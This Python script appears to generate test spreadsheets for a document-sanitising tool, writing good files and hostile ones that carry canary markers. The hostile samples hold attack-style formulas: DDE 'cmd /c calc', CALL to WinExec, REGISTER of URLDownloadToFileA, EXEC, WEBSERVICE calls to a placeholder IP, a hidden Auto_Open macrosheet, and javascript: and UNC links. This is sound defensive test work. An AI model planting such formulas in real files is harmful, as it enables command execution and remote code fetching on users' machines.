#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes Excel files for the tests into a folder: good ones in good/, hostile ones in bad/.

    tools/make_xlsx_samples.py FOLDER [STAMP]

Made here to the last byte, as by make_docx_samples.py, whose canaries and helpers it uses. Each bad file has one trait;
want.txt says for every file what disarm must answer.
"""
import io
import os
import sys
import warnings
import zipfile

from make_docx_samples import HEAD, canaries, canary, gap, ole_file, png

X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
STRICT = {X: "http://purl.oclc.org/ooxml/spreadsheetml/main", R: "http://purl.oclc.org/ooxml/officeDocument/relationships",
          A: "http://purl.oclc.org/ooxml/drawingml/main", XDR: "http://purl.oclc.org/ooxml/drawingml/spreadsheetDrawing"}
REL, MS = R + "/", "http://schemas.microsoft.com/office/2006/relationships/"
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
MAIN = {"xlsx": SML + "sheet.main+xml", "xltx": SML + "template.main+xml",
        "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "xltm": "application/vnd.ms-excel.template.macroEnabled.main+xml"}
NS = 'xmlns="%s" xmlns:r="%s"' % (X, R)

STYLES = """<styleSheet xmlns="%s"><numFmts count="3"><numFmt numFmtId="164" formatCode="[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;;@"/>
<numFmt numFmtId="165" formatCode="000000"/><numFmt numFmtId="166" formatCode="#,##0.00_);[Red]\\(#,##0.00\\)"/></numFmts>
<fonts count="2"><font><sz val="11"/><color theme="1"/><name val="游ゴシック"/><family val="2"/><charset val="128"/><scheme val="minor"/></font>
<font><b/><sz val="14"/><color rgb="FF0000CC"/><name val="ＭＳ ゴシック"/></font></fonts>
<fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>
<fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/><bgColor indexed="64"/></patternFill></fill></fills>
<borders count="2"><border><left/><right/><top/><bottom/><diagonal/></border><border><left style="thin"><color auto="1"/></left>
<right style="thin"><color auto="1"/></right><top style="medium"><color auto="1"/></top><bottom style="double"><color auto="1"/></bottom><diagonal/></border></borders>
<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>
<cellXfs count="5"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>
<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>
<xf numFmtId="165" fontId="1" fillId="2" borderId="1" xfId="0" applyFont="1" applyFill="1" applyBorder="1"><alignment horizontal="center" vertical="center" textRotation="255" wrapText="1"/></xf>
<xf numFmtId="166" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="49" fontId="0" fillId="0" borderId="0" xfId="0" quotePrefix="1"/></cellXfs>
<cellStyles count="1"><cellStyle name="標準" xfId="0" builtinId="0"/></cellStyles>
<dxfs count="1"><dxf><font><color rgb="FF9C0006"/></font><fill><patternFill><bgColor rgb="FFFFC7CE"/></patternFill></fill></dxf></dxfs>
<tableStyles count="0" defaultTableStyle="TableStyleMedium9"/></styleSheet>""" % X

STRINGS = """<sst xmlns="%s" count="5" uniqueCount="5"><si><t>関所の見本</t><rPh sb="0" eb="2"><t>セキショ</t></rPh><rPh sb="3" eb="5"><t>ミホン</t></rPh><phoneticPr fontId="0"/></si>
<si><r><t>太字の</t></r><r><rPr><b/><sz val="11"/><color rgb="FFFF0000"/><rFont val="游ゴシック"/></rPr><t xml:space="preserve"> 部分 </t></r></si>
<si><t xml:space="preserve">改行_x000D_
あり _x005F_x0041_ のまま</t></si><si><t>=cmd|'/c calc'!A0</t></si><si><t>項目</t></si><si><t>金額</t></si></sst>""" % X


class Book:
    def __init__(self, ext="xlsx"):
        self.parts, self.types, self.rels, self.extra = {}, {}, {"": [], "xl/workbook.xml": []}, []
        self.sheets, self.names, self.inner = [], "", ""
        self.rel("", REL + "officeDocument", "xl/workbook.xml")
        self.types["xl/workbook.xml"] = MAIN[ext]
        self.part("xl/styles.xml", STYLES, SML + "styles+xml", "styles")
        self.part("xl/sharedStrings.xml", STRINGS, SML + "sharedStrings+xml", "sharedStrings")

    def rel(self, source, kind, target, external=False):
        rows = self.rels.setdefault(source, [])
        rows.append(("rId%d" % (len(rows) + 1), kind, target, external))
        return "rId%d" % len(rows)

    def part(self, name, data, kind=None, relation=None, source="xl/workbook.xml"):
        self.parts[name] = data if isinstance(data, bytes) else (HEAD + data).encode()
        if kind:
            self.types[name] = kind
        if relation:
            return self.rel(source, relation if ":" in relation else REL + relation, "/" + name)
        return None

    def sheet(self, name, rows, before="", behind="", state=""):
        """A sheet with its rows; returns its part's name for relations of its own (made before)."""
        part = "xl/worksheets/sheet%d.xml" % (len(self.sheets) + 1)
        rid = self.part(part, "<worksheet %s>%s<sheetData>%s</sheetData>%s</worksheet>" % (NS, before, rows, behind),
                        SML + "worksheet+xml", "worksheet")
        self.sheets.append((name, rid, state))
        return self

    def next_sheet(self):
        return "xl/worksheets/sheet%d.xml" % (len(self.sheets) + 1)

    def workbook(self):
        return HEAD + '<workbook %s><workbookPr codeName="ThisWorkbook"/><bookViews><workbookView xWindow="1" activeTab="0"/></bookViews><sheets>%s</sheets>%s%s</workbook>' % (
            NS, "".join('<sheet name="%s" sheetId="%d" r:id="%s"%s/>' % (n, i + 1, rid, ' state="%s"' % s if s else "")
                        for i, (n, rid, s) in enumerate(self.sheets)),
            "<definedNames>%s</definedNames>" % self.names if self.names else "", self.inner)

    def bytes(self, strict=False):
        self.parts.setdefault("xl/workbook.xml", self.workbook().encode())
        out = io.BytesIO()
        types = HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/><Default Extension="bin" ContentType="application/octet-stream"/>' + \
            "".join('<Override PartName="/%s" ContentType="%s"/>' % o for o in self.types.items()) + "</Types>"
        members = [("[Content_Types].xml", types.encode())]
        for source, rows in self.rels.items():
            folder, _, name = source.rpartition("/")
            members.append(((folder + "/" if folder else "") + "_rels/" + name + ".rels", (
                HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(
                    '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (i, k, t.replace("&", "&amp;"), ' TargetMode="External"' if e else "")
                    for i, k, t, e in rows) + "</Relationships>").encode()))
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in members + list(self.parts.items()) + self.extra:
                if strict and (name.endswith(".xml") or name.endswith(".rels")):
                    text = data.decode()
                    for old, new in STRICT.items():
                        text = text.replace('"%s"' % old, '"%s"' % new).replace('"%s/' % old, '"%s/' % new)
                    data = text.encode()
                z.writestr(zipfile.ZipInfo(name, (2026, 11, 21, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
        return out.getvalue()


def cell(ref, value="", kind="", style="", formula=""):
    return '<c r="%s"%s%s>%s%s</c>' % (ref, ' s="%s"' % style if style else "", ' t="%s"' % kind if kind else "",
                                       formula if formula.startswith("<f") else "<f>%s</f>" % formula if formula else "",
                                       "<v>%s</v>" % value if value != "" else "")


def row(n, *cells, attrs=""):
    return '<row r="%d"%s>%s</row>' % (n, " " + attrs if attrs else "", "".join(cells))


ROWS = [
    row(1, cell("A1", "0", "s"), cell("B1", "1", "s"), cell("C1", "2", "s"), cell("D1", "3", "s", "4"), attrs='spans="1:4" ht="24.75" customHeight="1"'),
    row(2, cell("A2", "46347", "", "1"), cell("B2", "12", "", "2"), cell("C2", "0.1000000000000000055511151231257827"), cell("D2", "1E-3", "", "3")),
    row(3, cell("A3", "1", "b"), cell("B3", "#N/A", "e"), '<c r="C3" t="inlineStr"><is><t>内側の文字</t></is></c>', cell("D3", "", "", "2")),
    row(4, cell("A4", "3", "", "", "SUM(B2,C2*10)"), cell("B4", "6", "", "", '<f t="shared" ref="B4:B6" si="0">A4*2+$C$2</f>'), cell("C4", "関所", "str", "", "IF(A4&gt;1,&quot;関所&quot;,&quot;&quot;)")),
    row(5, cell("B5", "7", "", "", '<f t="shared" si="0"/>'), cell("C5", "1", "", "", '<f t="array" ref="C5:C6">TRANSPOSE(A2:B2)</f>')),
    row(6, cell("B6", "8", "", "", '<f t="shared" si="0"/>'), cell("C6", "2"), attrs='hidden="1"'),
    row(7, cell("A7", "9", "", "", "別表!A1+税率+INDIRECT(&quot;A1&quot;)"), cell("B7", "10", "", "", "VLOOKUP(A2,別表!$A:$B,2,FALSE)")),
]
BEFORE = '<sheetPr codeName="Sheet1"><tabColor rgb="FFFF0000"/></sheetPr><dimension ref="A1:D7"/><sheetViews><sheetView tabSelected="1" workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/><selection pane="bottomLeft" activeCell="B3" sqref="B3 C4:D5"/></sheetView></sheetViews><sheetFormatPr defaultRowHeight="18.75"/><cols><col min="1" max="1" width="20.125" customWidth="1"/><col min="3" max="4" width="9.5" style="3" hidden="1" customWidth="1"/></cols>'
RULES = '<autoFilter ref="A1:D7"><filterColumn colId="0"><filters><filter val="関所"/></filters></filterColumn></autoFilter><mergeCells count="1"><mergeCell ref="D2:D3"/></mergeCells><phoneticPr fontId="0" type="Hiragana"/><conditionalFormatting sqref="B2:B7 C2"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan"><formula>$A$4+1</formula></cfRule><cfRule type="colorScale" priority="2"><colorScale><cfvo type="min"/><cfvo type="num" val="$A$4"/><color rgb="FFF8696B"/><color rgb="FF63BE7B"/></colorScale></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" allowBlank="1" showInputMessage="1" promptTitle="選択" prompt="選んでください" sqref="A9 A11:A12"><formula1>"庶務,会計"</formula1></dataValidation></dataValidations>'
PRINT = '<printOptions horizontalCentered="1"/><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/><pageSetup paperSize="9" scale="80" orientation="landscape" r:id="rIdP"/><headerFooter differentFirst="1"><oddHeader>&amp;L&amp;"ＭＳ 明朝,標準"&amp;12見出し&amp;R&amp;D</oddHeader><oddFooter>&amp;C&amp;P / &amp;N ページ&amp;R&amp;Z&amp;F</oddFooter></headerFooter><rowBreaks count="1" manualBreakCount="1"><brk id="5" max="16383" man="1"/></rowBreaks>'


EXTENSION = '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1"><x14:dataValidation type="list" allowBlank="1"><x14:formula1><xm:f>別表!$A$1:$A$3</xm:f></x14:formula1><xm:sqref>A10</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>'


def drawing(book, sheet):
    part = "xl/drawings/drawing1.xml"
    book.part("xl/media/image1.png", png())
    rid = book.rel(part, REL + "image", "/xl/media/image1.png")
    place = "<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>%d</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>3</xdr:col><xdr:colOff>100</xdr:colOff><xdr:row>%d</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
    shape = '<xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="457200"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr>'
    return book.part(part, '<xdr:wsDr xmlns:xdr="%s" xmlns:a="%s" xmlns:r="%s">' % (XDR, A, R) +
        '<xdr:twoCellAnchor editAs="oneCell">' + place % (8, 11) + '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="図 1" descr="印影"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed="%s"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>' % rid + shape + "</xdr:pic><xdr:clientData/></xdr:twoCellAnchor>"
        '<xdr:twoCellAnchor>' + place % (12, 15) + '<xdr:sp macro="[0]!%s" textlink="Sheet1!$A$1"><xdr:nvSpPr><xdr:cNvPr id="3" name="枠"/><xdr:cNvSpPr/></xdr:nvSpPr>' % canary("shapemacro") + shape + "<xdr:txBody><a:bodyPr/><a:p><a:r><a:rPr lang=\"ja-JP\"/><a:t>図形の文字</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>",
        "application/vnd.openxmlformats-officedocument.drawing+xml", "drawing", sheet)


def comments(book, sheet):
    book.part("xl/comments1.xml", '<comments xmlns="%s"><authors><author>関所 太郎</author></authors><commentList><comment ref="B2" authorId="0" shapeId="0" xr:uid="{%s}" xmlns:xr="urn:x"><text><r><rPr><b/></rPr><t>確認:</t></r><r><t xml:space="preserve"> 数字を見ること</t></r></text></comment></commentList></comments>' % (X, canary("uid")),
              SML + "comments+xml", "comments", sheet)
    return book.part("xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="%s" href="http://203.0.113.9/%s"><x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" ObjectType="Note"><x:Anchor> 2, 15, 0, 7, 4, 15, 4, 13</x:Anchor><x:Row>1</x:Row><x:Column>1</x:Column><x:Visible/></x:ClientData></v:shape></xml>' % (canary("vmlid"), canary("vmlhref")), None, "vmlDrawing", sheet)


def table(book, sheet):
    return book.part("xl/tables/table1.xml", '<table xmlns="%s" id="1" name="表1" displayName="表1" ref="F1:G3" totalsRowShown="0" connectionId="7"><autoFilter ref="F1:G3"/><tableColumns count="2"><tableColumn id="1" name="項目"/><tableColumn id="2" name="金額"><calculatedColumnFormula>表1[[#This Row],[項目]]*2</calculatedColumnFormula></tableColumn></tableColumns><tableStyleInfo name="TableStyleMedium2" showRowStripes="1"/></table>' % X, SML + "table+xml", "table", sheet)


def everything(ext="xlsx"):
    b = Book(ext)
    sheet = b.next_sheet()
    draw, notes, tab = drawing(b, sheet), comments(b, sheet), table(b, sheet)
    link = b.rel(sheet, REL + "hyperlink", "https://www.example.lg.jp/kansa?a=1&b=2", True)
    links = '<hyperlinks><hyperlink ref="A1" r:id="%s" tooltip="庁内"/><hyperlink ref="A2" location="別表!A1" display="別表へ"/></hyperlinks>' % link
    extra = row(8, cell("F8", "1"))
    rows = "".join(ROWS[:1]).replace("</row>", cell("F1", "4", "s") + cell("G1", "5", "s") + "</row>") + "".join(ROWS[1:]) + extra
    b.sheet("一覧", rows, BEFORE, RULES + links + PRINT + '<drawing r:id="%s"/><legacyDrawing r:id="%s"/><tableParts count="1"><tablePart r:id="%s"/></tableParts>' % (draw, notes, tab) + EXTENSION)
    b.sheet("別表", row(1, cell("A1", "1"), cell("B1", "2", "", "", "一覧!A4+SUM(表1[金額])")))
    b.sheet("隠し", row(1, cell("A1", "4", "s")), state="hidden")
    b.names = '<definedName name="_xlnm.Print_Area" localSheetId="0">一覧!$A$1:$D$7</definedName><definedName name="税率" comment="%s">別表!$A$1*0.1</definedName><definedName name="_xlnm.Print_Titles" localSheetId="0">一覧!$A:$B,一覧!$1:$1</definedName>' % canary("namecomment")
    b.inner = '<calcPr calcId="191029"/>'
    return b


def plain(rows=None, ext="xlsx", behind="", before=""):
    return Book(ext).sheet("Sheet1", rows or row(1, cell("A1", "0", "s"), cell("B1", "5")), before, behind)


def f(text, value="1", kind=""):
    return plain(row(1, cell("A1", value, kind, "", text)))


FORMULAS = {  # name: formula that must go, its value stays
    "dde": "cmd|'/c %s'!A0", "dde-excel": "Excel|%s!R1C1", "external": "[1]Sheet1!$A$1+1", "external-path": "'\\\\203.0.113.9\\%s[b.xlsx]Sheet1'!A1",
    "webservice": 'WEBSERVICE("http://203.0.113.9/%s")', "rtd": 'RTD("%s",,"x")', "call": 'CALL("kernel32","WinExec","JCJ","%s",0)',
    "register": 'REGISTER("urlmon","URLDownloadToFileA","%s")', "exec": 'EXEC("%s")', "filterxml": 'FILTERXML(WEBSERVICE("http://x/%s"),"/")',
    "image": '_xlfn.IMAGE("http://203.0.113.9/%s")', "unknown": 'ADDIN.%s(1)', "sql": 'SQL.REQUEST("DSN=%s",,,"q")', "hyperlink": 'HYPERLINK("file:///c:/%s","x")',
    "cube": 'CUBEVALUE("%s","x")', "py": '_xlfn._xlws.PY(0,1,"%s")', "evaluate": 'EVALUATE("%s")', "udf": "'C:\\%s.xla'!f()",
}


def hostile():
    ok = {}
    for name, text in FORMULAS.items():
        ok["formula-%s.xlsx" % name] = f((text % canary(name.replace("-", "")) if "%s" in text else text).replace("&", "&amp;").replace('"', "&quot;"), "7")
    ok["macro.xlsm"] = plain(ext="xlsm")
    ok["macro.xlsm"].part("xl/vbaProject.bin", canary("vba").encode(), "application/vnd.ms-office.vbaProject", MS + "vbaProject")
    ok["macro-lying.xlsx"] = plain(ext="xlsm")
    ok["macro-lying.xlsx"].part("xl/vbaProject.bin", canary("vba").encode(), None, MS + "vbaProject")
    b = ok["macrosheet.xlsm"] = plain(ext="xlsm")
    b.sheets.append(("Macro1", b.part("xl/macrosheets/sheet1.xml", '<xm:macrosheet xmlns="%s" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("%s")</f></c></row></sheetData></xm:macrosheet>' % (X, canary("xlm")),
                                      "application/vnd.ms-excel.macrosheet+xml", MS + "xlMacrosheet"), "veryHidden"))
    b.names = '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName><definedName name="auto_open" xlm="1" function="1">%s</definedName>' % canary("autoopen")
    b = ok["names.xlsx"] = plain(row(1, cell("A1", "5", "", "", "悪名+1"), cell("B1", "6", "", "", "良名+1")))
    b.names = '<definedName name="悪名">cmd|\'/c %s\'!A0</definedName><definedName name="孫">悪名*2</definedName><definedName name="良名">Sheet1!$B$1</definedName><definedName name="Auto_Close">Sheet1!$A$1</definedName><definedName name="外">[2]%s!$A$1</definedName>' % (canary("ddename"), canary("extname"))
    ok["rules.xlsx"] = plain(behind='<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://203.0.113.9/%s")=1</formula></cfRule></conditionalFormatting><dataValidations><dataValidation type="custom" sqref="A1" error="%s"><formula1>cmd|\'/c %s\'!A0</formula1></dataValidation></dataValidations>' % (canary("cf"), "入力の誤り", canary("dv")))
    b = ok["links.xlsx"] = Book()
    targets = ["file:///c:/%s", "\\\\203.0.113.9\\%s", "javascript:%s", "other.xlsx#%s", "http://u:p@203.0.113.9/%s", "ms-excel:ofe|u|http://x/%s"]
    rids = [b.rel(b.next_sheet(), REL + "hyperlink", t % canary("xlink%d" % i), True) for i, t in enumerate(targets)]
    b.sheet("Sheet1", row(1, cell("A1", "1")), "", "<hyperlinks>%s<hyperlink ref=\"B1\" location=\"[1]%s!A1\"/></hyperlinks>" % ("".join('<hyperlink ref="A%d" r:id="%s"/>' % (i + 1, r_) for i, r_ in enumerate(rids)), canary("loc")))
    b = ok["external-link.xlsx"] = plain(row(1, cell("A1", "8", "", "", "[1]Sheet1!$A$1")))
    b.inner = '<externalReferences><externalReference r:id="%s"/></externalReferences>' % b.part("xl/externalLinks/externalLink1.xml", '<externalLink %s><externalBook r:id="rId1"><sheetNames><sheetName val="%s"/></sheetNames></externalBook></externalLink>' % (NS, canary("extbook")), SML + "externalLink+xml", "externalLink")
    b.rel("xl/externalLinks/externalLink1.xml", REL + "externalLinkPath", "http://203.0.113.9/%s.xlsx" % canary("extpath"), True)
    b = ok["connections.xlsx"] = plain()
    b.part("xl/connections.xml", '<connections xmlns="%s"><connection id="1" name="%s" type="4"><webPr url="http://203.0.113.9/"/></connection></connections>' % (X, canary("conn")), SML + "connections+xml", "connections")
    b = ok["pivot.xlsx"] = plain()
    b.part("xl/pivotCache/pivotCacheDefinition1.xml", '<pivotCacheDefinition xmlns="%s" refreshOnLoad="1" refreshedBy="%s"/>' % (X, canary("pivot")), SML + "pivotCacheDefinition+xml", "pivotCacheDefinition")
    b = ok["ole.xlsx"] = Book()
    rid = b.part("xl/embeddings/oleObject1.bin", ole_file("Workbook") + canary("ole").encode(), None, "oleObject", b.next_sheet())
    b.sheet("Sheet1", row(1, cell("A1", "1")), "", '<oleObjects><oleObject progId="Package" shapeId="1" r:id="%s"/></oleObjects><controls><control shapeId="2" r:id="rIdX" name="%s"/></controls>' % (rid, canary("ctl")))
    b = ok["metadata.xlsx"] = plain()
    b.part("docProps/core.xml", '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>%s</dc:creator></cp:coreProperties>' % canary("creator"), "application/vnd.openxmlformats-package.core-properties+xml", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "")
    b.part("xl/printerSettings/printerSettings1.bin", canary("printer").encode(), None, "printerSettings", "xl/worksheets/sheet1.xml")
    b.part("customXml/item1.xml", "<x>%s</x>" % canary("customxml"), None, "customXml")
    b.part("xl/calcChain.xml", '<calcChain xmlns="%s"><c r="A1" i="1"/></calcChain>' % X, SML + "calcChain+xml", "calcChain")
    b.part("xl/persons/person.xml", "<personList><person displayName=\"%s\"/></personList>" % canary("person"), None, "http://schemas.microsoft.com/office/2017/10/relationships/person")
    b.extra.append(("xl/orphan.xml", canary("orphan").encode()))
    b.inner = '<fileSharing userName="%s"/><workbookProtection workbookPassword="CC1A"/>' % canary("share")
    b = ok["unlisted-sheet.xlsx"] = plain()
    b.part("xl/worksheets/sheet9.xml", "<worksheet %s><sheetData>%s</sheetData></worksheet>" % (NS, row(1, '<c r="A1" t="inlineStr"><is><t>%s</t></is></c>' % canary("unlisted"))), SML + "worksheet+xml", "worksheet")
    ok["odd-cells.xlsx"] = plain("<row><c><v>1</v></c><c t=\"s\"><v>99</v></c><c r=\"ZZZ9\"><v>3</v></c><c r=\"A1\"><v>4</v></c></row><row r=\"1\"><c r=\"A1\"><v>double</v></c></row><row r=\"5\"><c r=\"B5\" s=\"77\" t=\"zzz\"><v>x</v></c></row>")
    ok["shared-wild.xlsx"] = plain(row(1, cell("A1", "1", "", "", '<f t="shared" si="4"/>'), cell("B1", "2", "", "", '<f t="shared" ref="B1:B2" si="0">A1+A1048576</f>')) + row(2, cell("B2", "3", "", "", '<f t="shared" si="0"/>'), cell("C2", "4", "", "", '<f t="dataTable" ref="C2:C3" r1="A1"/>')))
    b = ok["sheet-names.xlsx"] = Book()
    for name in ("a/b:c", "a/b:c", "", "'x'", "名" * 40):
        b.sheet(name, row(1, cell("A1", "1")))
    ok["head-foot.xlsx"] = plain(behind='<headerFooter><oddHeader>&amp;Z&amp;F%s&amp;G &amp;"a\\b"x&amp;&amp;y&amp;</oddHeader></headerFooter>' % "見出し")
    return {n: (b_.bytes(), "OK") for n, b_ in ok.items()}


def samples():
    good = {"everything." + ext: everything(ext).bytes() for ext in MAIN}
    good["strict.xlsx"] = everything().bytes(strict=True)
    good["plain.xlsx"] = plain().bytes()
    b = plain(row(1, cell("A1", "44925", "", "1"), cell("B1", "2026-11-21T00:00:00", "d", "1")))
    b.parts["xl/workbook.xml"] = b.workbook().replace('codeName="ThisWorkbook"', 'date1904="1"').encode()
    good["date1904.xlsx"] = b.bytes()
    bad = hostile()
    data = plain().bytes()
    bad.update({
        "gap.xlsx": (gap(data, canary("gap").encode()), "OK"),
        "tail.xlsx": (data + canary("suffix").encode() * 3, "OK"),
        "truncated.xlsx": (data[:-300], "E_BROKEN"),
        "no-sheet.xlsx": (Book().bytes(), "E_BROKEN"),
        "encrypted.xlsx": (ole_file("EncryptionInfo", "EncryptedPackage"), "E_ENCRYPTED E_BROKEN"),
        "old-xls.xlsx": (ole_file("Workbook"), "E_TYPE_MISMATCH"),
        "docx-inside.xlsx": (word(), "E_TYPE_MISMATCH"),
        "deep.xlsx": (plain("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is>%s</is></c></row>" % ("<r>" * 300 + "</r>" * 300)).bytes(), "OK E_LIMIT_DEPTH E_BROKEN"),
    })
    return good, bad


def word():
    from make_docx_samples import good_plain
    return good_plain().bytes()


def main():
    folder = sys.argv[1]
    warnings.filterwarnings("ignore", "Duplicate name")
    good, bad = samples()
    want = [("good/" + n, "OK", d) for n, d in good.items()] + [("bad/" + n, w, d) for n, (d, w) in bad.items()]
    for sub in ("good", "bad"):
        os.makedirs(os.path.join(folder, sub), exist_ok=True)
    for name, _, data in want:
        with open(os.path.join(folder, name), "wb") as out:
            out.write(data)
    with open(os.path.join(folder, "want.txt"), "w", encoding="utf-8") as out:
        out.writelines("%s %s\n" % (n, w) for n, w, _ in want)
    with open(os.path.join(folder, "canaries.txt"), "w", encoding="utf-8") as out:
        out.writelines(c + "\n" for c in canaries)
    if len(sys.argv) > 2:
        open(sys.argv[2], "w", encoding="ascii").close()


if __name__ == "__main__":
    main()
